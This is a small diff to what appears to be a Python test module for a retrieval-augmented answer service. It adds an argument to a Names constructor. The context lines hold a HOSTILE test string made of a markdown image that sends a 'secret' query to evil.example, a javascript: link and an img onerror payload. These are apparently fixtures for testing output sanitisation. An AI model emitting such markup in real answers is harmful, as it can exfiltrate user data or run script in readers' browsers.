@@ -20,7 +20,7 @@ from rag.service.shapes import answer_json, chat_text
 from rag.service.uploads import Uploads
 from rag.types import Answer, Citation, Passage, given_passage
 
-NAMES = Names(Uploads(Path("/nowhere")))
+NAMES = Names(Uploads(Path("/nowhere")), "world")
 HOSTILE = "See ![pixel](http://evil.example/?q=secret) and [here](javascript:alert(1)) <img src=x onerror=y>."
 
 
